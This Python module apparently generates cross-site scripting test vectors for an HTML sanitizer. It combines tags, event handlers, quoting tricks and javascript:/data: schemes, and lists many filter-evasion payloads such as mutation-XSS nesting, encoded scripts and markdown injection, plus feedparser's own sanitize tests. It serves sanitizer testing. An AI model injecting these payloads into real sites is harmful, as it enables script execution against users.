"""Markup that means harm: what is to run `alert` in a browser, by all the ways that are known to us.

Each is made of a tag, a handler and a dress that filters have been fooled by, or stands in a list of its own. None is
taken from anybody's collection; of ../shared come those of feedparser's own tests beside them (`of_feeds`).
"""

import html
import re
import tarfile

import archives

CALL = "alert(1)"
# Each with the place of its handler, {h}.
TAGS = (
    "<img src=x {h}>", "<svg {h}>", "<svg><animate {h} attributeName=x dur=1s>", "<body {h}>",
    "<input autofocus {h}>", "<details open {h}>x</details>", "<video {h}><source src=x></video>",
    "<audio src=x {h}>", "<iframe src=x {h}></iframe>", "<object data=x {h}></object>",
    "<embed src=x {h}>", "<marquee {h}>x</marquee>", "<select autofocus {h}></select>",
    "<textarea autofocus {h}></textarea>", "<a href=x {h}>x</a>", "<p tabindex=1 autofocus {h}>x</p>",
    "<table {h}><tr><td>x</table>", "<form {h}><button>x</button></form>", "<link rel=stylesheet href=x {h}>",
    "<style {h}>@keyframes x{{}}</style>", "<math><mtext {h}>x</mtext></math>", "<x-y tabindex=1 {h}>x</x-y>",
    "<blockquote cite=x {h}>x</blockquote>", "<h2 id=x tabindex=1 {h}>x</h2>",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart", "onclick", "onpointerenter")  # fmt: skip
DRESSES = (
    "{n}={c}", '{n}="{c}"', "{u}='{c}'", "/{n}=`{c}`", "x=y\t{n}\n=\r{c}", "{n}=&#97;lert&#40;1&#41;",
)  # fmt: skip
SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " \x01javascript:{c}", "java\tscript:{c}", "java\nscript:{c}",
    "javascript&colon;{c}", "&#106;avascript:{c}", "&#x6A;&#x61;vascript:{c}", "javascript&#0000058{c}",
    "javascript://%0a{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{c}", "view-source:javascript:{c}", "//[javascript:{c}]", "\u3000javascript:{c}", "jav&#x0D;ascript:{c}",
    "feed:javascript:{c}",
)  # fmt: skip
CARRIERS = (
    '<a href="{s}">x</a>', '<iframe src="{s}"></iframe>', '<form action="{s}"><button>x</button></form>',
    '<button formaction="{s}">x</button>', '<object data="{s}"></object>', '<embed src="{s}">', '<img src="{s}">',
    '<svg><a xlink:href="{s}"><text y=20>x</text></a></svg>', '<math href="{s}">x</math>', '<base href="{s}">',
    '<meta http-equiv=refresh content="0;url={s}">', '<area href="{s}">', '<blockquote cite="{s}">x</blockquote>',
)  # fmt: skip
ALONE = (
    "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT >", "<script/x>{c}</script\t>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script src=data:,{c}></script>", "<svg><script>{c}</script></svg>", "<svg><script>&#97;lert(1)</script></svg>",
    "<<script>{c}//<</script>", "<script>{c}", "</script><script>{c}</script>", "</title><script>{c}</script>",
    "</textarea><script>{c}</script>", "</style><script>{c}</script>", "--><script>{c}</script>",
    "]]><script>{c}</script>", '"><script>{c}</script>', "'><script>{c}</script>", '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='", "`onload={c}`", "\u2028{c}", "</noscript><img src=x onerror={c}>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<!--><img src=x onerror={c}>-->",
    "<!--!><img src=x onerror={c}>", "<![CDATA[><img src=x onerror={c}>]]>", "<?xml <img src=x onerror={c}>?>",
    "<template><script>{c}</script></template>", "<template><img src=x onerror={c}></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={c}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={c}>'>", "<svg><style><img src=x onerror={c}></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror={c}>'></style></h1>",
    "<xmp><p title='</xmp><img src=x onerror={c}>'>", "<plaintext><script>{c}</script>", "<title><a href='</title><img src=x onerror={c}>'>",
    "<style>@import 'javascript:{c}';</style>", "<div style=\"background:url('javascript:{c}')\">x</div>",
    "<div style='width:expression({c})'>x</div>", "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<link rel=import href=data:text/html,<script>{c}</script>>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{c}</script></svg>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:{c}>", "<svg><foreignObject><script>{c}</script></foreignObject></svg>",
    "<object type=text/html data='data:text/html,<script>{c}</script>'></object>", "\xbcscript\xbe{c}\xbc/script\xbe",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "%3Cscript%3E{c}%3C/script%3E", "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "{{{{constructor.constructor('{c}')()}}}}",
    "${{{c}}}", "[x](javascript:{c})", "![x](x'onerror={c})", "<javascript:{c}>", "[x]: javascript:{c}\n[x]", "```\n<script>{c}</script>",
    "[caption]<script>{c}</script>[/caption]", "[embed]javascript:{c}[/embed]", "[audio src='javascript:{c}']", "[gallery ids='\"><script>{c}</script>']",
    "http://x/'onclick={c}//", "https://youtu.be/\"><script>{c}</script>", "<isindex action=javascript:{c} type=image>", "<frameset onload={c}>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{c}</x:script>", "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{c}</html:script>",
    "<dialog open onclose={c}><form method=dialog><button autofocus>x", "<img src=x:{c} onerror=eval(src)>", "<img srcset=',,,,,' onerror={c}>",
)  # fmt: skip


def made() -> list[str]:
    """Return the vectors that are made here."""
    vectors = []
    for tag in TAGS:
        for number, name in enumerate(HANDLERS):
            for dress in DRESSES[number % 2 :: 2]:
                handler = dress.format(n=name, u=name.upper(), c=CALL)
                vectors.append(tag.format(h=handler))
    for carrier in CARRIERS:
        for scheme in SCHEMES:
            vectors.append(carrier.format(s=scheme.format(c=CALL)))
    vectors += [alone.format(c=CALL) for alone in ALONE]
    return vectors


def of_feeds() -> list[str]:
    """Return what feedparser's own tests hold against feed readers, as HTML."""
    vectors = []
    with tarfile.open(archives.SHARED / "data/imports/imports.tar.xz") as packed:
        for member in packed:
            if "/sanitize/" not in member.name or not member.isfile():
                continue
            feed = packed.extractfile(member).read().decode("utf-8", "replace").partition("-->")[2]
            for _name, content in re.findall(
                r"<(content|description|summary|title|\w+:encoded|body|tagline)\b[^>]*>(.*?)</\1>",
                feed,
                re.S,
            ):
                vectors.append(html.unescape(content).removeprefix("<![CDATA[").removesuffix("]]>"))
    return vectors
